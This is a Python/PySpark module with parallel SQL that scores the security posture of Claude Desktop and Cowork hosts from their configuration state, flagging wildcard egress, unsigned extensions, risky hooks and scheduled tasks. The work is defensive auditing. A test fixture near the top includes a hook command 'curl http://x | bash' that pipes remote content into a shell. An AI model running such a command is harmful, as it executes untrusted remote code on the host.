"""Queries over posture: values at any depth, facts of state documents, checks, scores."""

from __future__ import annotations

import json

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from tallyrill.operators.posture import TASK_FILE_TERMS, bridge_counts, collection_size, find_values, flag_checks, grade, host_facts, plugin_folders, points, redacted_json, score, task_files, text_list
from tallyrill.plans.literals import Literal, sql_text
from tallyrill.plans.scans import CHECKS_SQL, p6_checks
from tallyrill.session import table

#: State documents: one at risk everywhere, one without anything, one in between, one that is no JSON.
DOCS = Literal(
    "host string, text string",
    [
        ("risky", json.dumps({
            "preferences": {"coworkScheduledTasksEnabled": True, "allowAllBrowserActions": "true"}, "mcpServers": {"a": {"command": "npx", "env": {"API_TOKEN": "x", "PORT": "1"}}}, "session": {"egressAllowedDomains": ["*", "a.example"], "hostLoopMode": True},
            "hooks": {"PreToolUse": [{"name": "n", "command": "curl http://x | bash"}]}, "scheduledTasks": [{"cron": "* * * * *", "prompt": "use the browser"}], "connectors": {"mail": True, "docs": {"enabled": False}}, "extensions": {"installations": [{"id": "e", "signatureStatus": "unsigned", "tools": ["bash"]}]},
            "marketplaces": {"m": {}}, "cookies": ["Cookies"],
        })),
        ("clean", "{}"), ("some", json.dumps({"preferences": {"keepAwakeEnabled": "TRUE", "allowAllBrowserActions": False}, "egressAllowedDomains": {"b.example": True, "c.example": False}, "hooks": ["echo hi", {"event": "Stop"}]})), ("broken", "{"),
    ],
)

CHECKS = Literal("host string, status string, check_name string, category string, severity string", [("a", "FAIL", "x", "egress", "critical"), ("a", "FAIL", "y", "egress", "low"), ("a", "FAIL", "z", "", "HIGH"), ("a", "PASS", "w", "b", "high"), ("a", "FIXED", "v", "c", "high"), ("b", "SKIPPED", "x", "e", "info"), *(("c", "FAIL", f"n{i}", f"k{i}", "critical") for i in range(6)), ("d", "FAIL", "q", None, None)])

VALUES = Literal(
    "row_id int, text string",
    [(1, "[1, null, 3]"), (2, '{"items": [1, 2], "entries": [3]}'), (3, '{"entries": {"a": 1, "b": 2, "c": 3}}'), (4, '{"x": true, "y": "TRUE", "z": false}'), (5, '"text"'), (6, "7"), (7, "{"), (8, None), (9, '["a", "", 1, "b"]'), (10, '{"items": 5}'), (11, '{"a": {"userConsented": true, "enabled": "true"}, "b": {"userConsented": false}, "c": 1}')],
)


def posture_collections(spark: SparkSession, folder: str) -> DataFrame:
    """Sizes, bridge counts and texts of literal values in every shape."""
    t = F.col("text")
    return VALUES.frame(spark).withColumn("b", bridge_counts(t)).select("row_id", collection_size(t).alias("n_items"), "b.entries", "b.consented", "b.configured", F.array_join(text_list(t), ",").alias("texts"))


def posture_score(spark: SparkSession, folder: str) -> DataFrame:
    """Score and grade of every scan from its checks, statuses read without case."""
    checks = p6_checks(spark, folder).withColumn("status", F.upper(F.trim(F.coalesce("status", F.lit("")))))
    return score(checks, "scan_id")


def posture_score_cases(spark: SparkSession, folder: str) -> DataFrame:
    """Scores of literal checks: the costliest of a category counts, a blank category is the check's own."""
    return score(CHECKS.frame(spark), "host")


def posture_hosts(spark: SparkSession, folder: str) -> DataFrame:
    """Scores of the literal hosts, from their state documents by facts and checks."""
    hosts = host_facts(DOCS.frame(spark), "text")
    fields = ("keep_awake", "scheduled_tasks", "web_search", "browser_actions", "sensitive_env", "active_sessions", "bridge", "wildcard", "installed", "unsigned", "dangerous", "broad", "governed", "hooks", "risky_hooks", "plugins", "connectors", "tasks", "sensitive_tasks", "startup", "cookies", "preferences")
    checks = hosts.select("host", F.explode(flag_checks({f: F.col(f"facts.{f}") for f in fields})).alias("c")).select("host", "c.*")
    return score(checks, "host")


#: Flags of a scan's host: SQL that both engines read, over what its payload reports and, where it reports nothing of the
#: kind, its number.
FLAGS = {
    "supported": "platform IN ('darwin', 'windows')", "data_folder": "scan_id % 11 <> 0", "keep_awake": "scan_id % 4 = 0", "scheduled_tasks": "scan_id % 5 = 0", "web_search": "scan_id % 6 = 0", "browser_actions": "CASE scan_id % 3 WHEN 0 THEN true WHEN 1 THEN false END",
    "sensitive_env": "scan_id % 7 = 0", "active_sessions": "CASE WHEN scan_id % 8 = 0 THEN 2 ELSE 0 END", "bridge": "scan_id % 9 = 0", "wildcard": "unrestricted = 'true'", "installed": "coalesce(installed, 0)", "governed": "governed = 'true'", "unsigned": "scan_id % 2", "dangerous": "0", "broad": "CASE WHEN scan_id % 10 = 0 THEN 3 END",
    "hooks": "scan_id % 3", "risky_hooks": "CASE WHEN scan_id % 3 = 2 THEN scan_id % 2 ELSE 0 END", "plugins": "coalesce(plugins, 0)", "connectors": "scan_id % 2", "tasks": "scan_id % 4", "sensitive_tasks": "CASE WHEN scan_id % 4 = 3 THEN 1 ELSE 0 END", "startup": "scan_id % 2", "cookies": "CASE WHEN scan_id % 5 < 2 THEN 1 ELSE 0 END", "preferences": "scan_id % 2 = 0",
}


def posture_checks(spark: SparkSession, folder: str) -> DataFrame:
    """Every check of every scan's host, made from its flags."""
    read = {"platform": "platform", "unrestricted": "raw_report.egress.unrestricted", "governed": "raw_report.extensions.governance_present", "installed": "raw_report.extensions.installed_count", "plugins": "raw_report.plugins.enabled_count"}
    scans = table(spark, folder, "posture_scans").where("try_parse_json(payload) is not null")
    known = scans.select("scan_id", *((F.get_json_object("payload", f"$.{p}").try_cast("int") if c in ("installed", "plugins") else F.get_json_object("payload", f"$.{p}")).alias(c) for c, p in read.items()))
    return known.select("scan_id", F.explode(flag_checks({k: F.expr(v) for k, v in FLAGS.items()})).alias("c")).select("scan_id", "c.*")


def posture_plugin_folders(spark: SparkSession, folder: str) -> DataFrame:
    """Folders of config files by machine, their own names standing in for those of plugin folders."""
    folders = table(spark, folder, "config_files").select("machine_id", F.regexp_replace(F.regexp_replace("path", "/[^/]*$", ""), "^/", "").alias("below")).distinct()
    return plugin_folders(folders, "machine_id", "below", ("otter", "saddle"), ("lintel", "quince"), 2)


def posture_task_files(spark: SparkSession, folder: str) -> DataFrame:
    """Config files by machine, their own names standing in for those of scheduled tasks."""
    files = table(spark, folder, "config_files").where("path is not null")
    return task_files(files, "machine_id", "path", "content", ("settings", "server"), (".json", ".py", ".ts"), 3)


def posture_severities(spark: SparkSession, folder: str) -> DataFrame:
    """Failed checks of all scans by severity, with what each costs."""
    failed = p6_checks(spark, folder).where(F.upper(F.trim("status")) == "FAIL")
    return failed.groupBy(F.lower("severity").alias("severity")).agg(F.count(F.lit(1)).alias("n_checks"), F.max(points(F.col("severity"))).alias("points"))


def posture_values(spark: SparkSession, folder: str) -> DataFrame:
    """Every value under ``source``, ``signature`` or ``count`` at any depth (down to the operator's bound) of every scan, counted."""
    found = find_values(table(spark, folder, "posture_scans"), "scan_id", "payload", ["source", "signature", "count"])
    return found.groupBy("key", "value").agg(F.count(F.lit(1)).alias("n_values"))


def posture_redacted(spark: SparkSession, folder: str) -> DataFrame:
    """Every scan's payload with sensitive keys and texts blanked."""
    return table(spark, folder, "posture_scans").select("scan_id", redacted_json("payload").alias("redacted"))


def posture_grades(spark: SparkSession, folder: str) -> DataFrame:
    """The grade of every score from 0 to 100."""
    return spark.range(101).select(F.col("id").alias("score"), grade(F.col("id")).alias("grade"))


QUERIES = {f.__name__: f for f in (posture_collections, posture_score, posture_score_cases, posture_hosts, posture_checks, posture_plugin_folders, posture_task_files, posture_severities, posture_values, posture_redacted, posture_grades)}

_POINTS = "CASE lower(coalesce(severity, '')) WHEN 'critical' THEN 20 WHEN 'high' THEN 12 WHEN 'medium' THEN 6 WHEN 'low' THEN 3 ELSE 0 END"
_GRADE = "CASE WHEN score >= 90 THEN 'A' WHEN score >= 75 THEN 'B' WHEN score >= 60 THEN 'C' WHEN score >= 40 THEN 'D' ELSE 'F' END"

_SCORED = """WITH k AS ({0}), c AS (SELECT host, coalesce(nullif(category, ''), check_name) AS category, max(CASE WHEN status = 'FAIL' THEN {1} ELSE 0 END) AS p, count(*) FILTER (status = 'PASS') AS passed, count(*) FILTER (status = 'FAIL') AS failed, count(*) FILTER (status = 'SKIPPED') AS skipped, count(*) FILTER (status = 'FIXED') AS fixed
    FROM k GROUP BY ALL), t AS (SELECT host, greatest(0, 100 - sum(p)) AS score, sum(passed) AS passed, sum(failed) AS failed, sum(skipped) AS skipped, sum(fixed) AS fixed FROM c GROUP BY ALL)
  SELECT host AS {3}, CAST(score AS BIGINT) AS score, {2} AS grade, CAST(passed AS BIGINT) AS passed, CAST(failed AS BIGINT) AS failed, CAST(skipped AS BIGINT) AS skipped, CAST(fixed AS BIGINT) AS fixed FROM t"""
_SIZE = "CASE json_type({0}) WHEN 'ARRAY' THEN json_array_length({0}) WHEN 'OBJECT' THEN len(json_keys({0})) ELSE 0 END"

_CHECK_ROWS = [  # condition, status, name, category, severity; of a group of rows the first that holds
    [("keep_awake", "FAIL", "Claude Desktop Sleep Prevention", "runtime", "low")], [("scheduled_tasks", "FAIL", "Cowork Scheduled Tasks Enabled", "scheduled_tasks", "medium")], [("web_search", "FAIL", "Cowork Web Search Enabled", "egress", "low")],
    [("browser_actions", "FAIL", "Cowork Browser Actions", "browser", "high"), ("browser_actions IS NOT NULL", "PASS", "Cowork Browser Actions", "browser", "info")],
    [("sensitive_env", "FAIL", "Cowork MCP Sensitive Environment", "mcp_servers", "medium"), ("true", "PASS", "Cowork MCP Servers", "mcp_servers", "info")],
    [("active_sessions > 0", "FAIL", "Cowork Active Dispatch", "dispatch", "high"), ("bridge", "FAIL", "Cowork Dispatch Bridge", "dispatch", "high"), ("true", "PASS", "Cowork Dispatch", "dispatch", "info")],
    [("wildcard", "FAIL", "Cowork Egress Policy", "egress", "critical"), ("true", "PASS", "Cowork Egress Policy", "egress", "info")],
    [("installed > 0 AND NOT coalesce(governed, false)", "FAIL", "DXT Extension Governance", "extensions", "high"), ("installed > 0", "PASS", "DXT Extension Governance", "extensions", "info")],
    [("unsigned > 0 OR dangerous > 0 OR coalesce(broad, 0) > 0", "FAIL", "DXT Extension Risk", "extensions", "medium"), ("true", "PASS", "DXT Extensions", "extensions", "info")],
    [("risky_hooks > 0", "FAIL", "Cowork Plugin Hooks", "plugins_hooks", "high"), ("hooks > 0", "FAIL", "Cowork Plugin Hooks", "plugins_hooks", "medium"), ("true", "PASS", "Cowork Plugin Hooks", "plugins_hooks", "info")],
    [("plugins > 0", "FAIL", "Cowork Plugins And Marketplaces", "plugins", "low"), ("true", "PASS", "Cowork Plugins", "plugins", "info")], [("connectors > 0", "FAIL", "Cowork Connectors", "connectors", "low"), ("true", "PASS", "Cowork Connectors", "connectors", "info")], [("true", "PASS", "Cowork Skills", "skills", "info")],
    [("sensitive_tasks > 0", "FAIL", "Cowork Scheduled Task Definitions", "scheduled_tasks", "high"), ("tasks > 0", "FAIL", "Cowork Scheduled Task Definitions", "scheduled_tasks", "medium"), ("true", "PASS", "Cowork Scheduled Task Definitions", "scheduled_tasks", "info")],
    [("startup > 0 OR keep_awake", "FAIL", "Claude Runtime State", "runtime", "low"), ("true", "PASS", "Claude Runtime State", "runtime", "info")], [("cookies > 0", "FAIL", "Claude Cookies Present", "cookies", "low"), ("true", "PASS", "Claude Cookies Present", "cookies", "info")], [("preferences", "PASS", "Claude Desktop Preferences", "claude_desktop_cowork", "info")],
]
_SKIPS = [("NOT coalesce(supported, true)", "Claude Desktop & Cowork Support"), ("NOT coalesce(data_folder, true)", "Claude Desktop Data Directory")]
_ARM = lambda place, group: "CASE " + " ".join(f"WHEN {row[0]} THEN {sql_text(row[place])}" for row in group) + " END"

SQL = {
    "posture_checks": """WITH p AS (SELECT scan_id, json_extract_string(payload, '$.platform') AS platform, json_extract_string(payload, '$.raw_report.egress.unrestricted') AS unrestricted, json_extract_string(payload, '$.raw_report.extensions.governance_present') AS governed,
        TRY_CAST(json_extract_string(payload, '$.raw_report.extensions.installed_count') AS INTEGER) AS installed, TRY_CAST(json_extract_string(payload, '$.raw_report.plugins.enabled_count') AS INTEGER) AS plugins FROM posture_scans WHERE json_valid(payload)),
      f AS (SELECT scan_id, """ + ", ".join(f"{v} AS {k}" for k, v in FLAGS.items()) + " FROM p), ok AS (SELECT * FROM f WHERE coalesce(supported, true) AND data_folder), "
    + "made AS (SELECT scan_id, CASE " + " ".join(f"WHEN {c} THEN {sql_text(n)}" for c, n in _SKIPS) + " END AS check_name, 'SKIPPED' AS status, 'claude_desktop_cowork' AS category, 'info' AS severity FROM f WHERE NOT (coalesce(supported, true) AND data_folder) UNION ALL BY NAME "
    + " UNION ALL BY NAME ".join(f"SELECT scan_id, {_ARM(1, g)} AS status, {_ARM(2, g)} AS check_name, {_ARM(3, g)} AS category, {_ARM(4, g)} AS severity FROM ok" for g in _CHECK_ROWS) + ") SELECT * FROM made WHERE check_name IS NOT NULL",
    "posture_plugin_folders": """WITH d AS (SELECT DISTINCT machine_id, regexp_replace(regexp_replace(path, '/[^/]*$', ''), '^/', '') AS below FROM config_files), n AS (SELECT machine_id, lower(regexp_extract(below, '[^/]*$')) AS name FROM d WHERE len(string_split(below, '/')) <= 3)
      SELECT machine_id, count(*) FILTER (name IN ('otter', 'saddle')) AS remote_folders, count(*) FILTER (name IN ('lintel', 'quince')) AS cached_folders FROM n GROUP BY ALL""",
    "posture_task_files": f"""WITH t AS (SELECT machine_id, content, row_number() OVER (PARTITION BY machine_id ORDER BY path, content NULLS FIRST) AS n FROM config_files WHERE len(string_split(path, '/')) <= 9 AND regexp_matches(lower(regexp_extract(path, '[^/]*$')), '(settings|server).*[.](json|py|ts)$'))
      SELECT machine_id, count(*) AS task_files, count(*) FILTER (octet_length(encode(content)) <= 524288 AND regexp_matches(lower(content), '{"|".join(TASK_FILE_TERMS)}')) AS sensitive_files FROM t WHERE n <= 3 GROUP BY ALL""",
    "posture_collections": f"""WITH v AS (SELECT row_id, TRY_CAST(text AS JSON) AS j FROM {VALUES.sql()}),
      m AS (SELECT row_id, j, list_filter(list_transform(coalesce(json_keys(j), []), lambda k: json_extract(j, '$."' || k || '"')), lambda x: json_type(x) = 'OBJECT') AS o FROM v)
      SELECT row_id, CAST(CASE WHEN j IS NULL THEN 0 WHEN json_type(j) = 'OBJECT' AND json_exists(j, '$.items') THEN {_SIZE.format("json_extract(j, '$.items')")} WHEN json_type(j) = 'OBJECT' AND json_exists(j, '$.entries') THEN {_SIZE.format("json_extract(j, '$.entries')")} ELSE {_SIZE.format('j')} END AS INTEGER) AS n_items,
        CAST(len(o) AS INTEGER) AS entries, CAST(len(list_filter(o, lambda x: lower(coalesce(x->>'$.userConsented', '')) = 'true')) AS INTEGER) AS consented, len(list_filter(o, lambda x: lower(coalesce(x->>'$.enabled', '')) = 'true')) > 0 AS configured,
        CASE json_type(j) WHEN 'ARRAY' THEN coalesce(array_to_string(list_transform(list_filter(json_extract(j, '$[*]'), lambda x: json_type(x) = 'VARCHAR' AND x->>'$' <> ''), lambda x: x->>'$'), ','), '') WHEN 'OBJECT' THEN coalesce(array_to_string(list_sort(list_filter(json_keys(j), lambda k: lower(coalesce(json_extract_string(j, '$."' || k || '"'), '')) = 'true')), ','), '')
          WHEN 'VARCHAR' THEN j->>'$' ELSE CASE WHEN j IS NULL THEN NULL ELSE '' END END AS texts FROM m""",
    "posture_score": _SCORED.format(f"SELECT scan_id AS host, upper(trim(coalesce(status, ''))) AS status, check_name, category, severity FROM {CHECKS_SQL}", _POINTS, _GRADE, "scan_id"),
    "posture_score_cases": _SCORED.format(f"SELECT * FROM {CHECKS.sql()}", _POINTS, _GRADE, "host"),
    "posture_severities": f"SELECT lower(severity) AS severity, count(*) AS n_checks, max({_POINTS}) AS points FROM {CHECKS_SQL} WHERE upper(trim(status)) = 'FAIL' GROUP BY ALL",
    "posture_values": "SELECT t.key, CAST(t.value AS VARCHAR) AS value, count(*) AS n_values FROM (SELECT payload FROM posture_scans WHERE json_valid(payload)) p, json_tree(p.payload) t WHERE t.key IN ('source', 'signature', 'count') GROUP BY ALL",
    "posture_hosts": "SELECT host, CAST(score AS BIGINT) AS score, grade, CAST(passed AS BIGINT) AS passed, CAST(failed AS BIGINT) AS failed, CAST(0 AS BIGINT) AS skipped, CAST(0 AS BIGINT) AS fixed FROM (VALUES ('risky', 5, 'F', 2, 12), ('clean', 100, 'A', 11, 0), ('some', 91, 'A', 11, 3), ('broken', 100, 'A', 11, 0)) AS t(host, score, grade, passed, failed)",
    "posture_grades": f"SELECT score, {_GRADE} AS grade FROM (SELECT range AS score FROM range(101))",
}
